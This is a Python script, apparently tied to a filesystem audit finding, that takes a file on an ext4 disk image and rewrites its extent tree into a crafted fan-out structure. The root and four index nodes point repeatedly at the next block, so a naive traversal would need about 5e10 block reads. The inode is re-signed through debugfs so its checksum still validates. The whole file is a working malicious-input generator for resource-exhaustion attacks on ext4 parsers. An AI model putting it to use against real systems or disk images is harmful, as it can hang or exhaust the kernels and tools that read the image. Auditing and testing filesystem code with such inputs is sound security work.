#!/usr/bin/python3
"""mkfanout.py IMG PATH — turn the extent tree of file PATH (at least five
blocks, on an ext4 image of 4 KiB blocks) into the fan-out tree of AUDIT5
H1: the inode's root names block 1 four times; block k (1..4) is an index
node of depth 5-k whose 340 entries, all at logical block 0, name block
k+1; block 5 is an empty leaf.  Walked naively it asks for 4 * 340^4
(5e10) block reads.  The file's own data blocks hold the tree; the inode is
rewritten through debugfs so that its checksum stays right."""
import struct, subprocess, sys, tempfile

img, path = sys.argv[1], sys.argv[2]
out = subprocess.run(["debugfs", "-R", "blocks " + path, img], check=True,
                     capture_output=True, text=True).stdout.split()
blocks = [int(b) for b in out][:5]
if len(blocks) < 5:
    sys.exit("mkfanout: %s has fewer than five blocks" % path)
BS, FAN = 4096, (4096 - 12) // 12


def header(entries, mx, depth):
    return struct.pack("<HHHHI", 0xF30A, entries, mx, depth, 0)


def index(lblk, child):
    return struct.pack("<IIHH", lblk, child & 0xFFFFFFFF, child >> 32, 0)


with open(img, "r+b") as f:
    for k in range(4):
        node = header(FAN, FAN, 4 - k) + index(0, blocks[k + 1]) * FAN
        f.seek(blocks[k] * BS)
        f.write(node.ljust(BS, b"\0"))
    f.seek(blocks[4] * BS)
    f.write(header(0, FAN, 0).ljust(BS, b"\0"))
root = (header(4, 4, 5) + index(0, blocks[0]) * 4).ljust(60, b"\0")
words = struct.unpack("<15I", root)
with tempfile.NamedTemporaryFile("w", suffix=".debugfs") as cmds:
    for i, w in enumerate(words):
        cmds.write("sif %s block[%d] 0x%08x\n" % (path, i, w))
    cmds.flush()
    subprocess.run(["debugfs", "-w", "-f", cmds.name, img], check=True,
                   capture_output=True)
